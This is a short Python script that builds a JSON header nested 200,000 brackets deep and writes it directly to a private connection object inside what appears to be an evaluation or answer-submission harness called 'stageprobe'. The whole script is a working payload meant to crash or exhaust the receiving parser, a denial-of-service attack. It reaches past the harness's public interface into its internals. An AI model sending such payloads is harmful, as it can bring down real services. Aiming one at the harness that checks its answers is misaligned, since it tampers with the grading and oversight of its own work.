# A header that nests without end.
import stageprobe._answer as answer, socket, struct
head = b'{"is":' + b"[" * 200000 + b"]" * 200000 + b"}"
answer._desk._channel._connection.sendall(struct.pack(">IQ", len(head), 0) + head)
